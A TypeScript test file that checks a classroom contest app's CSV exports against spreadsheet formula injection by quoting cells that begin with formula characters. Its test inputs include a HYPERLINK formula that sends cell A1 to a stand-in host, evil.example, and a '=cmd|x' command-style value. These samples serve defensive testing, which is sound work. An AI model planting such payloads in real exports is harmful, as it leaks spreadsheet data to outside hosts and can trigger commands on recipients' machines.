import { readdir, readFile } from 'node:fs/promises';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvDocument, neutraliseFormula, restoreFormulaText } from '../../src/shared/csv.ts';
import { api, createContest, FAST_SETTINGS } from '../support/live-bots.ts';
import { startInProcess, type InProcessServer } from './in-process.ts';

/** Finding 7: a pupil's name starting with `=HYPERLINK(` must not reach a spreadsheet as a formula, in any CSV. */
describe('the shared CSV writer', () => {
  it('prefixes every formula-starting text with a quote, keeps numbers as values, and round-trips', () => {
    for (const s of ['=HYPERLINK("http://x","y")', '+1', '-2+3', '@SUM(A1)', '\t=1', '\r=1', '＝1', "'=already"]) {
      expect(neutraliseFormula(s).startsWith("'")).toBe(true);
      expect(restoreFormulaText(neutraliseFormula(s))).toBe(s);
    }
    expect(neutraliseFormula('Nguyễn An')).toBe('Nguyễn An');
    expect(csvDocument([['=cmd|x', -5, null, 'a,b']])).toBe("\uFEFF'=cmd|x,-5,,\"a,b\"\r\n");
  });

  it('is the only way the source writes CSV: every file that emits text/csv or a BOM imports it', async () => {
    const root = path.resolve(import.meta.dirname, '../../src');
    const files: string[] = [];
    const walk = async (dir: string) => {
      for (const e of await readdir(dir, { withFileTypes: true })) {
        const p = path.join(dir, e.name);
        if (e.isDirectory()) await walk(p);
        else if (p.endsWith('.ts') && !p.includes(`${path.sep}client${path.sep}`)) files.push(p);
      }
    };
    await walk(root);
    const writers: string[] = [];
    for (const f of files) {
      if (f.endsWith(path.join('shared', 'csv.ts'))) continue;
      const text = await readFile(f, 'utf8');
      const emits = /'text\/csv; charset|['`]\\uFEFF(['`]\s*\+|\$\{)/.test(text);
      if (emits && !/from '(\.\.?\/)+(shared\/)?csv\.ts'|from '\.\/csv-records\.ts'/.test(text)) writers.push(path.relative(root, f));
    }
    expect(writers).toEqual([]);
  });
});

describe('CSV exports over HTTP', () => {
  let srv: InProcessServer;
  beforeAll(async () => {
    srv = await startInProcess();
  });
  afterAll(() => srv?.close());

  it('the roster CSV neutralises a formula in a student label', async () => {
    const contest = await createContest(srv.url, srv.admin, { title: 'Roster', bank: srv.bank.slug, version: srv.bank.version, questionCount: 1, rosterMode: true, settings: FAST_SETTINGS });
    const r = await fetch(`${srv.url}/api/live-contests/${contest.id}/roster?format=csv`, {
      method: 'POST',
      headers: { 'Content-Type': 'application/json', Authorization: `Bearer ${srv.admin.token}` },
      body: JSON.stringify({ students: [{ label: '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào")' }, { label: '+84 Lan' }] }),
    });
    expect(r.status).toBe(201);
    const text = await r.text();
    const lines = text.split('\r\n');
    expect(lines[1]!.startsWith(`"'=HYPERLINK(`)).toBe(true);
    expect(lines[2]!.startsWith("'+84 Lan,")).toBe(true);
  });

  it('the bank CSV export neutralises formulas and imports back unchanged', async () => {
    const exp = await api(srv.url, 'GET', `/api/banks/${srv.bank.slug}/export?format=csv`, { account: srv.admin });
    expect(exp.status).toBe(200);
    // No exported line starts a cell with a bare formula character.
    for (const line of exp.text.split('\r\n').slice(1)) expect(line).not.toMatch(/(^|,)[=+@]/);
  });
});
